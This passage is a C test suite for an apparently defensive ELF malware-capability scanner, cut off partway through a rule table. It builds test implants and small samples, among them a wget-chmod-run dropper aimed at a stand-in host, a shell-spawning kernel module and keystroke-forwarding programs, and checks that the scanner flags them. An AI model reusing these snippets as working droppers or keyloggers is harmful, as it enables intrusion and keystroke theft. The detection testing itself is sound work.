/* test_binary.c - the binary analyzer: the ELF reader, syscall recovery,
 * capability rules on test implants built at test time for x86-64, armel and
 * mipsel (never executed), endpoints, crypto constants and hardening. */
#include "helpers.h"
#include "analyze/binfeat.h"
#include "analyze/elf.h"
#include "analyze/syscalls.h"

static char *impl_dir; /* built once for the whole run */

static const char *const arches[] = { "x86_64", "armel", "mipsel" };
static const char *const links[] = { "dynamic", "static" };

static int build_implants(void **state)
{
	(void)state;
	impl_dir = th_tmpdir();
	th_sh("'%s/tests/implants/build.sh' '%s' > /dev/null", getenv("SRC"), impl_dir);
	return 0;
}

static int remove_implants(void **state)
{
	(void)state;
	th_rmtree(impl_dir);
	return 0;
}

/* The value of fact key on the node whose location ends with suffix. */
static size_t capability_findings(const struct pst_scan *s, const char *suffix)
{
	size_t n, i, k = 0;
	const struct pst_finding *f = pst_scan_findings(s, &n);
	for (i = 0; i < n; i++)
		if (f[i].node && th_ends_with(f[i].node->location, suffix) &&
		    (strncmp(f[i].rule, "capability.", 11) == 0 ||
		     strncmp(f[i].rule, "crypto.", 7) == 0))
			k++;
	return k;
}

static void test_implants_flagged(void **state)
{
	static const struct {
		const char *name, *rule;
		enum pst_severity sev;
	} want[] = {
		{ "bindshell", "capability.bind-shell", PST_SEV_CRITICAL },
		{ "revshell", "capability.reverse-shell", PST_SEV_CRITICAL },
		{ "pkttrigger", "capability.packet-trigger", PST_SEV_CRITICAL },
		{ "keylogger", "capability.keylogger", PST_SEV_CRITICAL },
		{ "bruteforce", "capability.credential-list", PST_SEV_HIGH },
	};
	struct pst_scan *s = th_scan(impl_dir, 2);
	size_t a, l, i;
	(void)state;
	for (a = 0; a < 3; a++)
		for (l = 0; l < 2; l++) {
			char where[128];
			for (i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
				const struct pst_finding *f;
				snprintf(where, sizeof(where), "/%s-%s/%s", arches[a], links[l],
					 want[i].name);
				f = th_finding(s, want[i].rule, where);
				if (!f)
					fail_msg("%s not flagged %s", where, want[i].rule);
				assert_int_equal(f->severity, want[i].sev);
				assert_string_equal(f->category, "capability");
			}
			/* The clean counterparts stay silent. */
			snprintf(where, sizeof(where), "/%s-%s/authdaemon", arches[a], links[l]);
			if (capability_findings(s, where))
				fail_msg("%s: clean daemon flagged", where);
			assert_true(th_fact_has(s, where, "bin.capabilities[]",
						"capability.authenticates"));
			assert_true(th_fact_has(s, where, "bin.capabilities[]",
						"capability.network-server"));
			snprintf(where, sizeof(where), "/%s-%s/multitool", arches[a], links[l]);
			if (capability_findings(s, where))
				fail_msg("%s: clean utility flagged", where);
		}
	assert_int_equal(pst_scan_verdict(s), PST_VERDICT_FAIL);
	/* The hard-coded address is in the inventory. */
	assert_true(
		th_fact_has(s, "/mipsel-static/keylogger", "bin.endpoints[]", "ipv4:91.215.85.17"));
	assert_true(th_fact_has(s, "/armel-dynamic/revshell", "bin.endpoints[]",
				"ipv4:185.243.115.84"));
	pst_scan_free(s);
}

/* Only the clean programs: the verdict is pass. */
static void test_clean_pass(void **state)
{
	char *d = th_tmpdir();
	struct pst_scan *s;
	(void)state;
	th_sh("mkdir -p %s/c && cp %s/*-*/authdaemon %s/c/ 2>/dev/null; "
	      "for x in %s/*-*; do cp $x/multitool %s/c/multitool-$(basename $x); "
	      "cp $x/authdaemon %s/c/authdaemon-$(basename $x); done",
	      d, impl_dir, d, impl_dir, d, d);
	{
		char p[4200];
		snprintf(p, sizeof(p), "%s/c", d);
		s = th_scan(p, 2);
	}
	assert_int_equal(th_count_at_least(s, PST_SEV_LOW), 0);
	assert_int_equal(pst_scan_verdict(s), PST_VERDICT_PASS);
	assert_non_null(th_finding(s, "binary.hardening-summary", NULL));
	pst_scan_free(s);
	th_rmtree(d);
}

static void test_syscall_recovery(void **state)
{
	size_t a, i;
	(void)state;
	for (a = 0; a < 3; a++) {
		char path[4200];
		uint8_t *p;
		size_t len;
		struct pst_elf e;
		struct pst_sysres r;
		static const char *const need[] = { "socket", "bind", "listen", "execve", "dup2" };
		snprintf(path, sizeof(path), "%s/%s-static/bindshell", impl_dir, arches[a]);
		p = th_read(path, &len);
		assert_true(pst_elf_parse(pst_view_make(p, len), &e));
		assert_false(e.has_symtab);
		assert_false(e.has_dynamic);
		assert_true(pst_syscalls_recover(&e, &r));
		assert_non_null(r.abi);
		/* Nearly every syscall instruction's number is recovered. */
		assert_true(r.sites > 20);
		assert_true(r.resolved * 10 >= r.sites * 7);
		for (i = 0; i < sizeof(need) / sizeof(need[0]); i++) {
			bool found = false;
			size_t k;
			for (k = 0; k < r.n; k++)
				found = found || strcmp(r.names[k], need[i]) == 0;
			if (!found)
				fail_msg("%s: %s not recovered", arches[a], need[i]);
		}
		pst_sysres_free(&r);
		pst_elf_free(&e);
		free(p);
	}
}

/* Hand-written syscalls in tiny static programs: ARM and Thumb-2 (mov.w,
 * movw, literal pools), x86-64, MIPS o32; each site counted once. */
static void test_syscall_tiny(void **state)
{
	static const struct {
		const char *cc, *flags;
	} t[] = {
		{ "gcc", "" },
		{ "arm-linux-gnueabi-gcc", "" },
		{ "arm-linux-gnueabi-gcc", "-mthumb -march=armv7-a" },
		{ "mipsel-linux-gnu-gcc", "" },
	};
	char *d = th_tmpdir();
	size_t i;
	(void)state;
	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		char path[4200];
		uint8_t *p;
		size_t len, k;
		struct pst_elf e;
		struct pst_sysres r;
		bool ex = false, so = false;
		th_sh("cd %s && cp '%s/tests/fuzz/corpus/elf/tiny.c.txt' tiny.c && %s %s -Os "
		      "-static "
		      "-nostdlib -s -Wl,-e,_start -o t%zu tiny.c",
		      d, getenv("SRC"), t[i].cc, t[i].flags, i);
		snprintf(path, sizeof(path), "%s/t%zu", d, i);
		p = th_read(path, &len);
		assert_true(pst_elf_parse(pst_view_make(p, len), &e));
		assert_true(pst_syscalls_recover(&e, &r));
		if (r.sites != 3 || r.resolved != 3)
			fail_msg("%s %s: %zu/%zu sites", t[i].cc, t[i].flags, r.resolved, r.sites);
		for (k = 0; k < r.n; k++) {
			ex = ex || strcmp(r.names[k], "execve") == 0;
			so = so || strcmp(r.names[k], "socket") == 0;
		}
		assert_true(ex && so);
		pst_sysres_free(&r);
		pst_elf_free(&e);
		free(p);
	}
	th_rmtree(d);
}

static void test_syscall_tables(void **state)
{
	(void)state;
	assert_string_equal(pst_sysname_of(pst_sys_x86_64, 59), "execve");
	assert_string_equal(pst_sysname_of(pst_sys_i386, 11), "execve");
	assert_string_equal(pst_sysname_of(pst_sys_arm_eabi, 281), "socket");
	assert_string_equal(pst_sysname_of(pst_sys_aarch64, 198), "socket");
	assert_string_equal(pst_sysname_of(pst_sys_mips_o32, 4183), "socket");
	assert_string_equal(pst_sysname_of(pst_sys_mips_n64, 5040), "socket");
	assert_null(pst_sysname_of(pst_sys_x86_64, 100000));
}

static void test_elf_reader(void **state)
{
	char path[4200];
	uint8_t *p;
	size_t len, i;
	struct pst_elf e;
	bool libc = false, imp = false;
	(void)state;
	snprintf(path, sizeof(path), "%s/mipsel-dynamic/bindshell", impl_dir);
	p = th_read(path, &len);
	assert_true(pst_elf_parse(pst_view_make(p, len), &e));
	assert_int_equal(e.machine, PST_EM_MIPS);
	assert_false(e.big);
	assert_false(e.is64);
	assert_non_null(e.interp);
	assert_true(e.has_dynamic);
	for (i = 0; i < e.nneeded; i++)
		libc = libc || strcmp(e.needed[i], "libc.so.6") == 0;
	assert_true(libc);
	for (i = 0; i < e.nsyms; i++)
		imp = imp || (e.syms[i].dynamic && e.syms[i].shndx == 0 &&
			      strcmp(e.syms[i].name, "accept") == 0);
	assert_true(imp);
	assert_true(e.build_id[0] != 0);
	assert_non_null(pst_elf_section(&e, ".text"));
	pst_elf_free(&e);
	free(p);

	/* Section headers gone (sstrip): the dynamic section still gives the
	 * needed libraries and the imports. */
	snprintf(path, sizeof(path), "%s/x86_64-dynamic/bindshell", impl_dir);
	p = th_read(path, &len);
	memset(p + 0x28, 0, 8);   /* e_shoff */
	memset(p + 0x3c, 0, 4);   /* e_shnum, e_shstrndx */
	assert_true(pst_elf_parse(pst_view_make(p, len), &e));
	assert_int_equal(e.nsects, 0);
	assert_int_equal(e.machine, PST_EM_X86_64);
	assert_true(e.nneeded >= 1);
	imp = false;
	for (i = 0; i < e.nsyms; i++)
		imp = imp || strcmp(e.syms[i].name, "dup2") == 0;
	assert_true(imp);
	pst_elf_free(&e);
	free(p);
}

/* A big-endian 32-bit PowerPC executable written by hand: header, one
 * PT_GNU_STACK and one PT_GNU_RELRO program header. */
static void test_elf_big_endian_ppc(void **state)
{
	uint8_t b[52 + 2 * 32];
	struct pst_elf e;
	(void)state;
	memset(b, 0, sizeof(b));
	memcpy(b, "\x7f" "ELF\x01\x02\x01", 7);
	b[17] = 2;                /* ET_EXEC */
	b[19] = 20;               /* EM_PPC */
	b[31] = 52;               /* e_phoff */
	b[43] = 32;               /* e_phentsize */
	b[45] = 2;                /* e_phnum */
	memcpy(b + 52, "\x64\x74\xe5\x51", 4);  /* PT_GNU_STACK */
	b[52 + 27] = 6;                         /* RW */
	memcpy(b + 84, "\x64\x74\xe5\x52", 4);  /* PT_GNU_RELRO */
	assert_true(pst_elf_parse(pst_view_make(b, sizeof(b)), &e));
	assert_true(e.big);
	assert_int_equal(e.machine, PST_EM_PPC);
	assert_string_equal(pst_elf_machine_str(e.machine), "powerpc");
	assert_true(e.has_gnu_stack);
	assert_false(e.stack_exec);
	assert_true(e.has_relro);
	pst_elf_free(&e);
	/* Lying counts are cut where the file ends. */
	b[45] = 200;
	assert_true(pst_elf_parse(pst_view_make(b, sizeof(b)), &e));
	assert_true(e.damaged > 0);
	assert_int_equal(e.nsegs, 2);
	pst_elf_free(&e);
}

static void test_kernel_module(void **state)
{
	char *d = th_tmpdir(), path[4200];
	uint8_t *p;
	size_t len;
	struct pst_elf e;
	struct pst_scan *s;
	(void)state;
	th_sh("cd %s && printf '%%s\\n' 'extern int call_usermodehelper(const char *, char **, "
	      "char **, int);'"
	      " 'int init_module(void) { return call_usermodehelper(\"/bin/sh\", 0, 0, 1); }' > m.c"
	      " && gcc -c -O2 -o m.o m.c"
	      " && printf 'license=GPL\\0vermagic=6.1.0-50-4kc-malta mod_unload\\0name=evil\\0' > "
	      "mi.bin"
	      " && objcopy --add-section .modinfo=mi.bin m.o evil.ko",
	      d);
	snprintf(path, sizeof(path), "%s/evil.ko", d);
	p = th_read(path, &len);
	assert_true(pst_elf_parse(pst_view_make(p, len), &e));
	assert_true(e.is_module);
	assert_string_equal(e.mod_license, "GPL");
	assert_string_equal(e.mod_vermagic, "6.1.0-50-4kc-malta mod_unload");
	assert_string_equal(e.mod_name, "evil");
	pst_elf_free(&e);
	free(p);
	s = th_scan(path, 1);
	assert_string_equal(th_fact(s, "evil.ko", "bin.module.license"), "GPL");
	/* It defines init_module itself: that is not loading a module. */
	assert_null(th_finding(s, "capability.kernel-module-load", NULL));
	assert_string_equal(th_fact(s, "evil.ko", "bin.hardening.pie"), "rel");
	pst_scan_free(s);
	th_rmtree(d);
}

static void test_hardening(void **state)
{
	char *d = th_tmpdir();
	struct pst_scan *s;
	(void)state;
	th_sh("cd %s && printf '%%s\\n' '#include <stdio.h>' '#include <string.h>'"
	      " 'int main(int c, char **v) { char b[64]; strcpy(b, v[0]); printf(\"%%s\", b); "
	      "return c; }'"
	      " > h.c && gcc -O2 -fstack-protector-strong -D_FORTIFY_SOURCE=2 -fPIE -pie"
	      " -Wl,-z,relro,-z,now -o hard h.c && gcc -O0 -fno-stack-protector -no-pie "
	      "-Wl,-z,norelro"
	      " -z execstack -Wl,--disable-new-dtags,-rpath,/opt/x -o soft h.c && gcc -O0 -no-pie"
	      " -Wl,-z,relro,-z,lazy -Wl,--enable-new-dtags,-rpath,/opt/y -o mid h.c && strip mid"
	      " && gcc -shared -fPIC -o libh.so h.c",
	      d);
	s = th_scan(d, 2);
	assert_string_equal(th_fact(s, "/hard", "bin.hardening.relro"), "full");
	assert_string_equal(th_fact(s, "/hard", "bin.hardening.pie"), "yes");
	assert_string_equal(th_fact(s, "/hard", "bin.hardening.nx"), "yes");
	assert_string_equal(th_fact(s, "/hard", "bin.hardening.canary"), "yes");
	assert_string_equal(th_fact(s, "/hard", "bin.hardening.fortify"), "yes");
	assert_string_equal(th_fact(s, "/hard", "bin.hardening.rpath"), "no");
	assert_string_equal(th_fact(s, "/hard", "bin.hardening.symbols"), "yes");
	assert_string_equal(th_fact(s, "/soft", "bin.hardening.relro"), "no");
	assert_string_equal(th_fact(s, "/soft", "bin.hardening.pie"), "no");
	assert_string_equal(th_fact(s, "/soft", "bin.hardening.nx"), "no");
	assert_string_equal(th_fact(s, "/soft", "bin.hardening.canary"), "no");
	assert_string_equal(th_fact(s, "/soft", "bin.hardening.fortify"), "no");
	assert_string_equal(th_fact(s, "/soft", "bin.hardening.rpath"), "yes");
	assert_string_equal(th_fact(s, "/soft", "bin.rpath"), "/opt/x");
	assert_string_equal(th_fact(s, "/mid", "bin.hardening.relro"), "partial");
	assert_string_equal(th_fact(s, "/mid", "bin.hardening.runpath"), "yes");
	assert_string_equal(th_fact(s, "/mid", "bin.hardening.symbols"), "no");
	assert_string_equal(th_fact(s, "/libh.so", "bin.hardening.pie"), "dso");
	/* One summary per image, not one finding per file. */
	{
		const struct pst_finding *f = th_finding(s, "binary.hardening-summary", NULL);
		size_t n, i, k = 0;
		const struct pst_finding *all = pst_scan_findings(s, &n);
		assert_non_null(f);
		assert_int_equal(f->severity, PST_SEV_INFO);
		assert_non_null(strstr(f->message, "4 ELF files"));
		for (i = 0; i < n; i++)
			k += strcmp(all[i].rule, "binary.hardening-summary") == 0;
		assert_int_equal(k, 1);
	}
	pst_scan_free(s);
	th_rmtree(d);
}

static void test_endpoints(void **state)
{
	static const char text[] =
		"xx\0connect to http://update.evil-cdn.top/a.bin now\0"
		"admin@mail.example.org\0ops@corp-mail.ru\0192.168.1.1\0"
		"8.8.8.8\0version 2.6.32.1\0linux-2.6.32.1.tar\0libc.so.6\0"
		"c2.badhost.xyz\0http://%s/cgi-bin/\0ftp://10.0.0.1/x\0"
		"Set the trust level.  (RFC 4880, Section 5.2.3.13.)\0see chapter 91.2.3.5 and "
		"(sec. 91.2.3.6)\0peer 91.2.3.7 port 443\0";
	struct pst_strings s;
	struct pst_endpoint ep[32];
	size_t n, i;
	bool url = false, email = false, ip = false, dom = false, peer = false;
	(void)state;
	assert_true(pst_strings_extract(pst_view_make(text, sizeof(text)), 4, 1 << 20, &s));
	n = pst_endpoints_find(&s, ep, 32);
	for (i = 0; i < n; i++) {
		if (ep[i].kind == PST_EP_URL &&
		    strcmp(ep[i].text, "http://update.evil-cdn.top/a.bin") == 0)
			url = ep[i].public_;
		if (ep[i].kind == PST_EP_EMAIL && strcmp(ep[i].text, "ops@corp-mail.ru") == 0)
			email = ep[i].public_;
		if (ep[i].kind == PST_EP_EMAIL && strstr(ep[i].text, "example.org"))
			assert_false(ep[i].public_);
		if (ep[i].kind == PST_EP_IPV4) {
			assert_string_not_equal(ep[i].text, "192.168.1.1");
			ip = ip || strcmp(ep[i].text, "8.8.8.8") == 0;
			/* section numbers are no addresses; an address after
			 * another word is */
			assert_null(strstr(ep[i].text, "5.2.3.13"));
			assert_string_not_equal(ep[i].text, "91.2.3.5");
			assert_string_not_equal(ep[i].text, "91.2.3.6");
			peer = peer || strcmp(ep[i].text, "91.2.3.7") == 0;
		}
		if (ep[i].kind == PST_EP_DOMAIN)
			dom = dom || strcmp(ep[i].text, "c2.badhost.xyz") == 0;
		assert_null(strstr(ep[i].text, "libc"));
	}
	assert_true(url && email && ip && dom && peer);
	/* UTF-16LE strings are read too. */
	pst_strings_free(&s);
	{
		static const uint8_t w[] =
			"\0\0h\0t\0t\0p\0:\0/\0/\0\x39\0\x31\0.\0\x32\0.\0\x33\0.\0\x34\0\0\0";
		assert_true(pst_strings_extract(pst_view_make(w, sizeof(w)), 4, 1 << 20, &s));
		assert_true(pst_strings_has(&s, "http://91.2.3.4"));
		pst_strings_free(&s);
	}
	{
		uint8_t a[4] = { 10, 1, 2, 3 }, b[4] = { 93, 184, 216, 34 },
			c[4] = { 172, 20, 0, 1 };
		assert_false(pst_ipv4_public(a));
		assert_true(pst_ipv4_public(b));
		assert_false(pst_ipv4_public(c));
	}
	{ /* root servers, example addresses, version numbers: public, not notable */
		uint8_t root[4] = { 198, 41, 0, 4 }, ex[4] = { 1, 2, 3, 4 },
			ver[4] = { 1, 7, 0, 0 }, c2[4] = { 91, 2, 3, 4 }, dns[4] = { 8, 8, 8, 8 },
			oid[4] = { 2, 5, 4, 41 };
		assert_true(pst_ipv4_public(root) && pst_ipv4_public(ex) && pst_ipv4_public(ver));
		assert_false(pst_ipv4_notable(root));
		assert_false(pst_ipv4_notable(ex));
		assert_false(pst_ipv4_notable(ver));
		assert_false(pst_ipv4_notable(oid));
		assert_true(pst_ipv4_notable(c2));
		assert_true(pst_ipv4_notable(dns));
	}
	{ /* a route's netmask (OpenVPN's 128.0.0.0/1) is no host; the next address is */
		uint8_t mask[4] = { 128, 0, 0, 0 }, host[4] = { 128, 0, 0, 1 },
			m2[4] = { 254, 0, 0, 0 };
		assert_true(pst_ipv4_public(mask));
		assert_false(pst_ipv4_notable(mask));
		assert_false(pst_ipv4_notable(m2));
		assert_true(pst_ipv4_notable(host));
	}
}

static void test_crypto(void **state)
{
	char *d = th_tmpdir();
	struct pst_scan *s;
	(void)state;
	th_sh("cd %s && printf '%%s\\n' '#include <stdio.h>'"
	      " 'const unsigned char sbox[16] = "
	      "{0x63,0x7c,0x77,0x7b,0xf2,0x6b,0x6f,0xc5,0x30,0x01,0x67,0x2b,0xfe,0xd7,0xab,0x76};'"
	      " 'const char name[] = \"Dual_EC_DRBG\";'"
	      " 'int main(int c, char **v) { printf(\"%%s%%d\", name, sbox[c]); return 0; }' > nq.c"
	      " && gcc -O2 -o nonstandard nq.c"
	      " && printf '%%s\\n' '#include <stdio.h>'"
	      " 'const char name[] = \"Dual_EC_DRBG\";'"
	      " 'const char q[] = "
	      "\"c97445f45cdef9f0d3e05e1e585fc297235b82b5be8ff3efca67c59852018192\";'"
	      " 'int main(void) { printf(\"%%s%%s\", name, q); return 0; }' > q.c && gcc -O2 -o "
	      "standard q.c"
	      " && printf '%%s\\n' '#include <stdio.h>' 'int main(void) { puts(\"hello\"); return "
	      "0; }' > c.c"
	      " && gcc -O2 -o clean c.c"
	      /* Chromium's audio code: "dual_ec" and "DUAL_EC" inside other words */
	      " && printf '%%s\\n' '#include <stdio.h>'"
	      " 'const char a[] = \"neural_residual_echo_estimator\", b[] = "
	      "\"RESIDUAL_ECHO_DETECTOR\";'"
	      " 'const char c[] = \"dual_echo_canceller\";'"
	      " 'int main(void) { printf(\"%%s%%s%%s\", a, b, c); return 0; }' > e.c && gcc -O2 -o "
	      "echo e.c"
	      " && printf '%%s\\n' '#include <stdio.h>' 'const char n[] = "
	      "\"FIPS_drbg_DualECDRBG\";'"
	      " 'int main(void) { puts(n); return 0; }' > f.c && gcc -O2 -o joined f.c",
	      d);
	s = th_scan(d, 2);
	assert_null(th_finding(s, "crypto.dual-ec-nonstandard", "/echo"));
	assert_null(th_finding(s, "crypto.dual-ec-drbg", "/echo"));
	assert_non_null(th_finding(s, "crypto.dual-ec-nonstandard", "/joined"));
	assert_non_null(th_finding(s, "crypto.dual-ec-nonstandard", "/nonstandard"));
	assert_int_equal(th_finding(s, "crypto.dual-ec-nonstandard", "/nonstandard")->severity,
			 PST_SEV_HIGH);
	assert_true(th_fact_has(s, "/nonstandard", "bin.crypto[]", "AES"));
	assert_non_null(th_finding(s, "crypto.dual-ec-drbg", "/standard"));
	assert_null(th_finding(s, "crypto.dual-ec-nonstandard", "/standard"));
	assert_int_equal(th_finding(s, "crypto.dual-ec-drbg", "/standard")->severity,
			 PST_SEV_MEDIUM);
	assert_int_equal(capability_findings(s, "/clean"), 0);
	assert_null(th_fact(s, "/clean", "bin.crypto[]"));
	pst_scan_free(s);
	th_rmtree(d);
}

/* Scans d/name: rule fires at sev with `evidence` in its evidence, absent
 * does not fire, and the verdict is v. */
static void expect_one(const char *d, const char *name, const char *rule, enum pst_severity sev,
		       const char *evidence, const char *absent, enum pst_verdict v)
{
	char path[4200];
	struct pst_scan *s;
	const struct pst_finding *f;
	snprintf(path, sizeof(path), "%s/%s", d, name);
	s = th_scan(path, 1);
	f = th_finding(s, rule, NULL);
	if (!f)
		fail_msg("%s did not fire %s", name, rule);
	assert_int_equal(f->severity, sev);
	assert_non_null(strstr(f->evidence, evidence));
	assert_null(th_finding(s, absent, NULL));
	assert_int_equal(pst_scan_verdict(s), v);
	pst_scan_free(s);
}

/* A shell-shaped combination inside a large program (150+ imports) is
 * softened to medium: a person looks, the verdict is review, not fail. */
static void test_large_program_softened(void **state)
{
	char *d = th_tmpdir();
	(void)state;
	th_sh("cd %s && cp '%s/tests/implants/bindshell.c' main.c && "
	      "nm -D --defined-only $(gcc -print-file-name=libc.so.6) | awk '$2==\"T\"{print $3}' "
	      "| grep @@ | sed 's/@.*//' | grep -E '^[a-z][a-z0-9_]+$' | grep -v -E "
	      "'^(main|bind|listen|accept|"
	      "dup2|execl|fork|close|socket|setsockopt|htons|memset|_exit)$' | sort -u | head -220 "
	      "> names"
	      " && (while read n; do echo \"extern void $n(void);\"; done < names;"
	      " echo 'void *const tab[] = {'; sed 's/$/,/' names; echo '0};') > big.c"
	      " && gcc -O2 -w -o big main.c big.c -lc && strip big"
	      /* the same program making pipes for its children (sftp running
	       * ssh, gawk, sudo, mtools) */
	      " && printf '%%s\\n' '#include <unistd.h>'"
	      " 'int plumb(int *p) { return pipe(p); }' > pipe.c"
	      " && gcc -O2 -w -o bigpipe main.c big.c pipe.c -lc && strip bigpipe"
	      /* a keylogger's features in a large program (Chromium reads
	       * /dev/input/event* and has network code) */
	      " && gcc -O2 -w -o bigkeys '%s/tests/implants/keylogger.c' big.c -lc && strip "
	      "bigkeys",
	      d, getenv("SRC"), getenv("SRC"));
	expect_one(d, "big", "capability.bind-shell", PST_SEV_MEDIUM, "large program",
		   "capability.shell-plumbing", PST_VERDICT_REVIEW);
	/* the dup2 serves the pipes: low, pass */
	expect_one(d, "bigpipe", "capability.shell-plumbing", PST_SEV_LOW, "pipe-plumbing",
		   "capability.bind-shell", PST_VERDICT_PASS);
	expect_one(d, "bigkeys", "capability.keylogger", PST_SEV_MEDIUM, "large program",
		   "capability.keystroke-capture", PST_VERDICT_REVIEW);
	th_rmtree(d);
}

/* A braille display driver (brltty) reads keyboards and sends what it
 * reads, but over Unix and netlink sockets only: nothing leaves the device,
 * keystroke-capture (low). The same program with one more socket whose
 * domain is computed at run time, or a raw Internet one, can send the keys
 * off the device: a keylogger again (high: no public address). */
static void test_keylogger_host_only(void **state)
{
	char *d = th_tmpdir();
	(void)state;
	th_sh("cd %s && printf '%%s\\n' '#include <fcntl.h>' '#include <stdlib.h>' '#include "
	      "<string.h>'"
	      " '#include <unistd.h>' '#include <sys/socket.h>' '#include <sys/un.h>'"
	      " 'int main(void) { struct sockaddr_un a; char b[24]; int s, f = "
	      "open(\"/dev/input/event0\", 0);'"
	      " '  memset(&a, 0, sizeof(a)); a.sun_family = AF_UNIX; strcpy(a.sun_path, "
	      "\"/run/brlapi/0\");'"
	      " '  s = socket(AF_UNIX, SOCK_STREAM, 0); connect(s, (struct sockaddr *)&a, "
	      "sizeof(a));'"
	      " '  if (socket(AF_NETLINK, SOCK_DGRAM, 15) < 0) return 1;'"
	      " '#ifdef ANYDOM'"
	      " '  if (socket(atoi(getenv(\"FAM\")), SOCK_DGRAM, 0) < 0) return 1;'"
	      " '#endif'"
	      " '#ifdef RAW'"
	      " '  if (socket(AF_INET, SOCK_RAW, 1) < 0) return 1;'"
	      " '#endif'"
	      " '  while (read(f, b, 24) == 24) send(s, b, 24, 0);' '  return 0; }' > brl.c"
	      " && gcc -O2 -w -o brlkeys brl.c && gcc -O2 -w -DANYDOM -o anykeys brl.c"
	      " && gcc -O2 -w -DRAW -o rawkeys brl.c"
	      " && i686-linux-gnu-gcc -O2 -w -fPIE -pie -Wl,-z,now -s -o brlkeys-i386 brl.c"
	      " && i686-linux-gnu-gcc -O2 -w -fPIE -pie -Wl,-z,now -s -DANYDOM -o anykeys-i386 "
	      "brl.c",
	      d);
	expect_one(d, "brlkeys", "capability.keystroke-capture", PST_SEV_LOW, "/dev/input/event",
		   "capability.keylogger", PST_VERDICT_PASS);
	/* Debian's i386 PIE builds (-z now: no .got.plt) have their socket()
	 * arguments read too */
	expect_one(d, "brlkeys-i386", "capability.keystroke-capture", PST_SEV_LOW,
		   "/dev/input/event", "capability.keylogger", PST_VERDICT_PASS);
	expect_one(d, "anykeys", "capability.keylogger", PST_SEV_HIGH, "network-client",
		   "capability.keystroke-capture", PST_VERDICT_FAIL);
	expect_one(d, "anykeys-i386", "capability.keylogger", PST_SEV_HIGH, "network-client",
		   "capability.keystroke-capture", PST_VERDICT_FAIL);
	expect_one(d, "rawkeys", "capability.keylogger", PST_SEV_HIGH, "network-client",
		   "capability.keystroke-capture", PST_VERDICT_FAIL);
	th_rmtree(d);
}

/* Capability rules come from data: a user rule directory adds rules, and a
 * broken rule file stops the scan before it starts (fail closed). */
static void test_user_rules(void **state)
{
	char *d = th_tmpdir(), rules[4200], target[4200];
	const char *dirs[2] = { rules, NULL };
	struct pst_options o;
	struct pst_scan *s;
	(void)state;
	th_sh("mkdir -p %s/r/capabilities %s/t && printf '%%s\\n' '- id: capability.test-marker'"
	      " '  severity: medium' '  message: carries the test marker'"
	      " '  all:' '    - string:POSTERN-TEST-MARKER' '    - capability:network-server'"
	      " > %s/r/capabilities/x.yaml && printf '%%s\\n' '#include <stdio.h>'"
	      " '#include <sys/socket.h>' 'int main(void) { puts(\"POSTERN-TEST-MARKER\");"
	      " bind(0, 0, 0); listen(0, 1); return accept(0, 0, 0); }' > %s/m.c"
	      " && gcc -O2 -o %s/t/m %s/m.c && printf 'int main(void){return 0;}' > %s/n.c"
	      " && gcc -O2 -o %s/t/n %s/n.c", d, d, d, d, d, d, d, d, d);
	snprintf(rules, sizeof(rules), "%s/r", d);
	snprintf(target, sizeof(target), "%s/t", d);
	pst_options_default(&o);
	o.rule_dirs = dirs;
	s = th_scan_opts(target, &o);
	assert_non_null(th_finding(s, "capability.test-marker", "/m"));
	assert_null(th_finding(s, "capability.test-marker", "/n"));
	pst_scan_free(s);

	{
		static const char *const broken[] = {
			"'- id: capability.broken' '  all:' '    - nosuch:thing'",
			"'- id: capability.broken' '  all:' '    - [string:a, "
			"capability:undefined]'",
			"'- id: capability.broken' '  severity: dreadful' '  all:' '    - "
			"string:abcd'",
			"'- id: capability.broken' '  all:' '    - {min: 0, of: [string:abcd]}'",
			"'- id: notcapability' '  all:' '    - string:abcd'",
			"'- id: capability.broken' '  colour: red' '  all:' '    - string:abcd'",
			"'- id: capability.broken' '  all: [[string:abcd' ",
			"'- id: x' '  all:' '    - capability:x'",
			/* a key twice: all: appended past the second one's groups (fuzz_rules) */
			"'- id: capability.broken' '  all:' '    - string:abcd' '    - "
			"string:efgh' '  all:' '    - string:ijkl'",
			"'- id: capability.broken' '  id: capability.again' '  all:' '    - "
			"string:abcd'",
		};
		size_t i;
		for (i = 0; i < sizeof(broken) / sizeof(broken[0]); i++) {
			th_sh("printf '%%s\\n' %s > %s/r/capabilities/y.yaml", broken[i], d);
			s = pst_scan_new(&o);
			assert_non_null(s);
			if (pst_scan_run(s, target) == PST_OK)
				fail_msg("broken rule file %zu accepted", i);
			assert_non_null(strstr(pst_scan_errmsg(s), "binary"));
			pst_scan_free(s);
		}
	}
	th_rmtree(d);
}

/* One small program per remaining rule (x86-64, dynamic): each fires its
 * rule; the clean programs of test_clean_pass fire none. */
static void test_each_rule(void **state)
{
	static const struct {
		const char *name, *rule, *body;
		enum pst_severity sev;
	} t[] = {
		{ "rawfilter", "capability.raw-packet-filter",
		  "static const struct sock_filter f[] = "
		  "{{0x28,0,0,12},{0x15,0,3,0x800},{0x30,0,0,23},"
		  "{0x15,0,1,17},{0x6,0,0,65535},{0x6,0,0,0}};"
		  "int main(void){struct sock_fprog p={6,(struct sock_filter*)f};char b[64];"
		  "int s=socket(17,3,0);setsockopt(s,1,26,&p,sizeof p);return "
		  "(int)recv(s,b,64,0);}",
		  PST_SEV_LOW },
		{ "dropper", "capability.download-execute",
		  "int main(void){return system(\"wget http://upd.example.net/x -O /tmp/x; chmod "
		  "+x /tmp/x; /tmp/x\");}",
		  PST_SEV_HIGH },
		/* a router's web server whose firmware upgrade page runs wget and
		 * chmod: its job, low */
		{ "fwhttpd", "capability.download-execute",
		  "int main(void){char b[512];int s=socket(2,1,0),c;bind(s,0,0);listen(s,5);"
		  "c=accept(s,0,0);read(c,b,512);if(strstr(b,\"multipart/form-data\"))"
		  "system(\"wget -O /tmp/fw.bin http://192.168.1.2/fw.bin; chmod +x /tmp/fw.bin\");"
		  "return dprintf(c,\"HTTP/1.1 200 OK\\r\\nContent-Type: "
		  "text/html\\r\\n\\r\\n\");}",
		  PST_SEV_LOW },
		{ "c2", "capability.c2-endpoint",
		  "int main(void){struct sockaddr_in a={0};int s=socket(2,1,0);a.sin_family=2;"
		  "inet_pton(2,\"45.9.148.3\",&a.sin_addr);connect(s,(void*)&a,sizeof a);return "
		  "system(\"uname -a\");}",
		  PST_SEV_MEDIUM },
		{ "keys", "capability.keystroke-capture",
		  "int main(void){char b[24];int f=open(\"/dev/input/event1\",0);return "
		  "(int)read(f,b,24);}",
		  PST_SEV_LOW },
		/* qemu's input-linux: grabs a device the user names (EVIOCGRAB, no
		 * /dev/input path) and has network code: not a keylogger */
